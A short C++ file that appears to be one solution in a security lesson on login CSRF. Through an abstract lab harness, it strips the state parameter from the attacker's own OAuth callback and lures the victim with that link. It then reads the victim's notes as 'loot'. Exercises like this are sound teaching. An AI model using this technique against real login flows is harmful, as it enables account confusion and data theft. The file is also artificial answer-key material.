// Unusual: takes the code out of its address, and writes the link by hand.
#include "login_csrf.hpp"

namespace lesson {
namespace {

std::string own_callback(const Evidence& evidence) {
  return evidence.browse(evidence.browse(evidence.login).header("Location")).header("Location");
}

std::string with_code_only(const std::string& callback) {
  const auto question = callback.find('?');
  const auto code = callback.find("code=");
  if (question == std::string::npos || code == std::string::npos) return callback;
  return callback.substr(0, question) + "?utm_source=mail&" +
         callback.substr(code, callback.find('&', code) - code);
}

}  // namespace

Loot attack(const Evidence& evidence) {
  evidence.lure(with_code_only(own_callback(evidence)));
  evidence.browse(own_callback(evidence));
  return {.notes = evidence.browse(evidence.notes).body};
}

}  // namespace lesson
